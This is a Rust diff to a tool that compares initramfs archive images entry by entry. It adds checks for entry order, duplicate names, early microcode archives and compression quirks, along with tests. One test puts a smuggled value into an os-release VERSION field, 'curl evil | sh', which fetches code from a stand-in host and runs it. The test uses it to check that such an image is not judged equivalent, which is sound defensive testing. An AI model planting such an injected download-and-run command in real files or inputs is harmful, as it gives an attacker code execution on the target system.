@@ -2,7 +2,8 @@
 //!
 //! The kernel takes them so (its `Documentation/driver-api/early-userspace/buffer-format.rst`): updates for the
 //! processor in an archive of their own, zeros, and the packed archive with everything else. Two images are
-//! compared as trees, entry by entry; when entries were made, their order and their numbers say nothing.
+//! compared as trees, entry by entry; when entries were made and their numbers say nothing, and neither does their
+//! order where the kernel makes the same of each: no name comes twice, and folders come before what is in them.
 
 use std::collections::{BTreeMap, BTreeSet, HashMap};
 use std::fs::File;
@@ -28,6 +29,9 @@ const LARGEST: u64 = 1 << 30;
 /// The longest name or target, in bytes, with the zero behind it (the kernel's `PATH_MAX`).
 const LONGEST_NAME: usize = 4096;
 
+/// How many folders may lie in each other where order is looked at.
+const DEEPEST: usize = 128;
+
 /// How many entries that differ are shown.
 const MOST_SHOWN: usize = 20;
 
@@ -39,6 +43,9 @@ const HEAD: usize = 110;
 
 /// The name behind which an archive ends.
 const TRAILER: &[u8] = b"TRAILER!!!";
+
+/// Where the kernel looks for what it needs before it unpacks anything, in plain archives at the beginning alone.
+const EARLY: &[u8] = b"kernel/";
 
 const KIND: u32 = 0o170_000;
 const REGULAR: u32 = 0o100_000;
@@ -75,11 +82,20 @@ struct Image {
     packing: Vec<&'static str>,
     /// What could not be unpacked, with how it is packed.
     rest: Option<(&'static str, Content)>,
+    /// Why another order of its entries would be another image.
+    ordered: Option<String>,
 }
 
 /// What is said of a name.
-#[derive(PartialEq, Eq)]
 struct Entry {
+    /// Whether the kernel finds it before it unpacks anything.
+    is_early: bool,
+    /// Its place among all entries.
+    place: usize,
+    /// The first of the names of the same file, if it has several.
+    first_name: Vec<u8>,
+    /// The sum of its bytes that the kernel holds it to, if any.
+    sum: Option<u32>,
     mode: u32,
     owner: (u32, u32),
     /// How many names a file has; of folders it depends on where they were.
@@ -96,6 +112,8 @@ struct Member {
     fields: [u32; 13],
     /// Which archive it is of.
     archive: usize,
+    is_early: bool,
+    has_sum: bool,
 }
 
 impl Member {
@@ -116,42 +134,98 @@ impl Member {
 impl Image {
     fn read(path: &Path) -> io::Result<Self> {
         let mut image = Self::default();
-        let (mut linked, mut contents) = (Vec::new(), HashMap::new());
-        let mut walk = Walk::default();
+        let mut linked: HashMap<_, Vec<Vec<u8>>> = HashMap::new();
+        let (mut walk, mut place) = (Walk::default(), 0);
         walk.run(path, &mut |member, body| {
-            let entry = Entry::read(member, body)?;
-            let is_file = member.mode() & KIND == REGULAR;
-            if is_file && entry.names > 1 {
-                // Of several names, the last one comes with the content.
-                linked.push((member.name.clone(), member.number()));
-                if let Some(content) = entry.content.filter(|content| content.size > 0) {
-                    contents.insert(member.number(), content);
-                }
+            place += 1;
+            let entry = Entry::read(member, body, place)?;
+            if member.mode() & KIND == REGULAR && entry.names > 1 {
+                linked.entry(member.number()).or_default().push(member.name.clone());
             }
-            image.entries.insert(member.name.clone(), entry);
+            image.add(member.name.clone(), entry);
             Ok(())
         })?;
-        for (name, number) in linked {
-            if let (Some(entry), Some(content)) = (image.entries.get_mut(&name), contents.get(&number)) {
-                entry.content = Some(*content);
-            }
-        }
+        linked.into_values().for_each(|names| image.link(&names));
+        image.hold_to_order();
         (image.packing, image.rest) = (walk.packing, walk.rest);
         Ok(image)
+    }
+
+    fn add(&mut self, name: Vec<u8>, entry: Entry) {
+        let Some(before) = self.entries.get_mut(&name) else {
+            self.entries.insert(name, entry);
+            return;
+        };
+        // A folder stands in the archive for the processor and in the one behind it: the last says what it is.
+        if [before.mode & KIND, entry.mode & KIND] == [FOLDER; 2] {
+            (before.mode, before.owner) = (entry.mode, entry.owner);
+            return;
+        }
+        let said = |entry: &Entry| (entry.mode, entry.owner, entry.device, entry.target.clone());
+        if entry.mode & KIND == REGULAR || said(before) != said(&entry) {
+            self.is_ordered(&name, "comes twice");
+            self.entries.insert(name, entry);
+        }
+    }
+
+    /// Gives the names of one file its content: the last one comes with it.
+    fn link(&mut self, names: &[Vec<u8>]) {
+        let of = |name: &Vec<u8>| self.entries.get(name);
+        let contents: Vec<Content> =
+            names.iter().filter_map(|name| of(name)?.content.filter(|content| content.size > 0)).collect();
+        let said: BTreeSet<_> = names.iter().filter_map(of).map(|entry| (entry.mode, entry.owner)).collect();
+        let Some(first) = names.iter().min() else { return };
+        if contents.len() > 1 || said.len() > 1 {
+            self.is_ordered(first, "is one of several names that say different things of a file");
+        }
+        for name in names {
+            if let Some(entry) = self.entries.get_mut(name) {
+                entry.content = contents.first().copied().or(entry.content);
+                entry.first_name.clone_from(first);
+            }
+        }
+    }
+
+    /// Finds what the kernel would make something else of in another order.
+    fn hold_to_order(&mut self) {
+        let wrong = self.entries.iter().find_map(|(name, entry)| {
+            let is_odd = |part: &[u8]| part.is_empty() || part == b"." || part == b"..";
+            let parts = || name.split(|byte| *byte == b'/');
+            if name != b"." && (parts().any(is_odd) || parts().count() > DEEPEST) {
+                return Some((name.clone(), "may be another name of something else"));
+            }
+            let slashes = name.iter().enumerate().rev().filter(|(_, byte)| **byte == b'/');
+            let mut folders = slashes.take(DEEPEST).filter_map(|(at, _)| self.entries.get(&name[..at]));
+            // Of folders further up it is told where this one is looked at.
+            let is_late = |folder: &Entry| folder.place > entry.place || folder.mode & KIND != FOLDER;
+            folders
+                .next()
+                .is_some_and(is_late)
+                .then(|| (name.clone(), "comes before its folder or through a link"))
+        });
+        if let Some((name, why)) = wrong {
+            self.is_ordered(&name, why);
+        }
+    }
+
+    fn is_ordered(&mut self, name: &[u8], why: &str) {
+        self.ordered.get_or_insert_with(|| format!("{} {why}", shown(name)));
     }
 }
 
 impl Entry {
-    fn read(member: &Member, body: &mut dyn Read) -> io::Result<Self> {
-        let [_, mode, uid, gid, names, time, _, _, _, major, minor, ..] = member.fields;
+    fn read(member: &Member, body: &mut dyn Read, place: usize) -> io::Result<Self> {
+        let [_, mode, uid, gid, names, time, _, _, _, major, minor, _, sum] = member.fields;
         let kind = mode & KIND;
+        let (is_early, sum) = (member.is_early && kind != FOLDER, member.has_sum.then_some(sum));
         let mut target = Vec::new();
         if kind == LINK {
             body.take(LONGEST_NAME as u64).read_to_end(&mut target)?;
         }
         let content = if kind == REGULAR { Some(content(body)?) } else { None };
         let names = if kind == FOLDER { 1 } else { names };
-        Ok(Self { mode, owner: (uid, gid), names, device: (major, minor), content, target, time })
+        let (owner, device, first_name) = ((uid, gid), (major, minor), Vec::new());
+        Ok(Self { is_early, place, first_name, sum, mode, owner, names, device, content, target, time })
     }
 }
 
@@ -179,6 +253,8 @@ struct Walk {
     unpacked: u64,
     packing: Vec<&'static str>,
     rest: Option<(&'static str, Content)>,
+    /// Whether something packed was met.
+    is_packed: bool,
 }
 
 impl Walk {
@@ -190,15 +266,21 @@ impl Walk {
             (&mut file).take(6).read_to_end(&mut head)?;
             file.seek(SeekFrom::Start(start))?;
             match Compression::of(&head) {
-                Compression::None if is_archive(&head) => {
+                // The kernel takes an archive for one where it is aligned.
+                Compression::None if is_archive(&head) && start.is_multiple_of(4) => {
                     self.packing.push("plain");
                     self.archive(&mut file, visit)?;
                 }
                 Compression::Gzip => {
                     self.packing.push("gzip");
-                    self.packed(flate2::bufread::GzDecoder::new(&mut file), visit)?;
+                    let mut stream = flate2::bufread::GzDecoder::new(&mut file);
+                    self.packed(&mut stream, visit)?;
+                    if stream.header().is_some_and(|head| head.extra().or(head.comment()).is_some()) {
+                        return Err(odd("its packing has something that the kernel does not skip"));
+                    }
                 }
-                Compression::Zstd => {
+                // The kernel skips no frame.
+                Compression::Zstd if head[0] == 0x28 => {
                     self.packing.push("zstd");
                     let decoder = zstd::stream::read::Decoder::with_buffer(&mut file)?;
                     self.packed(decoder.single_frame(), visit)?;
@@ -215,6 +297,7 @@ impl Walk {
 
     /// Reads the archives of a packed part to its end.
     fn packed(&mut self, stream: impl Read, visit: &mut Visit<'_>) -> io::Result<()> {
+        self.is_packed = true;
         let mut stream = BufReader::with_capacity(1 << 16, stream);
         while skip_zeros(&mut stream)? {
             self.archive(&mut stream, visit)?;
@@ -263,16 +346,19 @@ impl Walk {
         if name == TRAILER {
             return Ok(None);
         }
-        Ok(Some(Member { name: clean(&name), fields, archive: self.archives }))
+        let is_early = !self.is_packed && name.starts_with(EARLY);
+        let has_sum = head.starts_with(b"070702");
+        Ok(Some(Member { name: clean(&name), fields, archive: self.archives, is_early, has_sum }))
     }
 }
 
-/// Takes away what says nothing: `./` before a name, and a slash behind it.
+/// Takes away what says nothing: `./` before a name, and a slash behind it. The uppermost folder is `.`.
 fn clean(mut name: &[u8]) -> Vec<u8> {
     while let Some(rest) = name.strip_prefix(b"./").or_else(|| name.strip_prefix(b"/")) {
         name = rest;
     }
-    name.strip_suffix(b"/").unwrap_or(name).to_vec()
+    let name = name.strip_suffix(b"/").unwrap_or(name);
+    if name.is_empty() { b".".to_vec() } else { name.to_vec() }
 }
 
 fn hexadecimal(digits: &[u8]) -> Option<u32> {
@@ -335,12 +421,13 @@ fn compare(files: &Files<'_>, ours: &Image, theirs: &Image) -> Said {
         }
     }
     let is_rest_alike = ours.rest == theirs.rest;
+    let is_tree = is_rest_alike && ours.ordered.is_none() && theirs.ordered.is_none();
     let texts = texts(files, &found.contents, ours, theirs).unwrap_or_default();
     let mut said = Said::default();
     let differing: BTreeSet<&Vec<u8>> = found.lines.iter().map(|(name, _)| name).collect();
-    if is_rest_alike && differing.is_empty() {
+    if is_tree && differing.is_empty() {
         said.facts.push(Fact::SameArchive);
-    } else if is_rest_alike && differing.iter().all(|name| is_other_build(texts.get(*name))) {
+    } else if is_tree && differing.iter().all(|name| is_other_build(texts.get(*name))) {
         said.facts.push(Fact::ArchiveOfOtherBuild);
     }
     said.detail = Some(detail(&found, &differing, names.len(), &texts, (ours, theirs)));
@@ -362,6 +449,16 @@ impl Differences {
             return self.line(name, format!("{}, not {}", kind(our.mode), kind(their.mode)));
         }
         let before = self.lines.len();
+        if our.is_early != their.is_early {
+            let side = if our.is_early { "staging" } else { "reference" };
+            self.line(name, format!("before the packed part in the {side} image alone"));
+        }
+        if our.first_name != their.first_name {
+            self.line(name, "the same file as another name");
+        }
+        if our.sum != their.sum {
+            self.line(name, "held to another sum");
+        }
         if our.mode != their.mode {
             self.line(name, format!("mode {:04o}, not {:04o}", our.mode & 0o7777, their.mode & 0o7777));
         }
@@ -468,6 +565,11 @@ fn detail(
         let alike = if ours.rest == theirs.rest { "alike" } else { "not alike" };
         lines.push(format!("a part is packed with {word}, which is not read: it is {alike}"));
     }
+    for (side, image) in [("staging", ours), ("reference", theirs)] {
+        if let Some(ordered) = &image.ordered {
+            lines.push(format!("the order of the {side} image counts, and is not compared: {ordered}"));
+        }
+    }
     if found.times > 0 {
         lines.push(format!("{} changed at another time", counted(found.times, "entry", "entries")));
     }
@@ -552,7 +654,7 @@ mod tests {
     }
 
     fn release(build: &str) -> Vec<u8> {
-        format!("ID=fedora\nVERSION=\"{build}\"\n").into_bytes()
+        format!("ID=fedora\nVERSION=\"{build}\"\nVERSION_ID=45\n").into_bytes()
     }
 
     #[test]
@@ -578,7 +680,43 @@ mod tests {
             "{detail}"
         );
         assert!(detail.contains("3 entries changed at another time"), "{detail}");
-        assert_eq!(facts(&[one.as_slice(), &two].concat(), &two), [Fact::SameArchive]);
+    }
+
+    #[test]
+    fn order_counts_where_the_kernel_makes_something_of_it() {
+        let file = |name, content: &'static [u8]| (name, 0o100_644, 1, u32::from(content[0]), content);
+        let (folder, link) = (("d", 0o040_755, 1, 2, &b""[..]), ("l", 0o120_777, 1, 3, &b"d"[..]));
+        let early = file("kernel/x86/microcode/GenuineIntel.bin", b"code");
+        let (init, evil) = (file("init", b"good"), file("init", b"evil"));
+        let join = |parts: &[&[u8]]| parts.concat();
+        let pairs = [
+            // The update for the processor is in the packed part, or behind it.
+            (join(&[&archive(&[early]), &gzip(&archive(&[init]))]), gzip(&archive(&[early, init]))),
+            (
+                join(&[&archive(&[early]), &gzip(&archive(&[init]))]),
+                join(&[&gzip(&archive(&[init])), &[0; 4], &archive(&[early])]),
+            ),
+            // A folder behind what is in it.
+            (archive(&[folder, file("d/f", b"1")]), archive(&[file("d/f", b"1"), folder])),
+            (archive(&[folder, link, file("l/f", b"1")]), archive(&[file("l/f", b"1"), folder, link])),
+            // Of one name, the last counts.
+            (archive(&[evil, init]), archive(&[file("init", b"else"), init])),
+            (archive(&[init]), join(&[&archive(&[evil]), &archive(&[init])])),
+            (
+                archive(&[folder, file("d/f", b"1")]),
+                archive(&[folder, file("d//f", b"2"), file("d/f", b"1")]),
+            ),
+        ];
+        for (number, (ours, theirs)) in pairs.iter().enumerate() {
+            assert_eq!(facts(ours, theirs), [], "{number}");
+            assert_eq!(facts(theirs, ours), [], "{number}");
+        }
+        // The folders of both parts are the same ones, and the last says what they are.
+        let (early, main) = (archive(&[folder, file("d/a", b"1")]), archive(&[folder, file("d/b", b"1")]));
+        let packed = zstd::encode_all(main.as_slice(), 1).unwrap();
+        assert_eq!(facts(&join(&[&early, &gzip(&main)]), &join(&[&early, &packed])), [Fact::SameArchive]);
+        let open = archive(&[("d", 0o040_777, 1, 2, b""), file("d/b", b"1")]);
+        assert_eq!(facts(&join(&[&early, &gzip(&main)]), &join(&[&early, &gzip(&open)])), []);
     }
 
     #[test]
@@ -625,6 +763,7 @@ mod tests {
         };
         assert_eq!(facts(&image("1", b"a"), &image("2", b"a")), [Fact::ArchiveOfOtherBuild]);
         assert_eq!(facts(&image("1", b"a"), &image("2", b"b")), []);
+        assert_eq!(facts(&image("1", b"a"), &image("2\"\ncurl evil | sh\nA=\"", b"a")), []);
     }
 
     #[test]
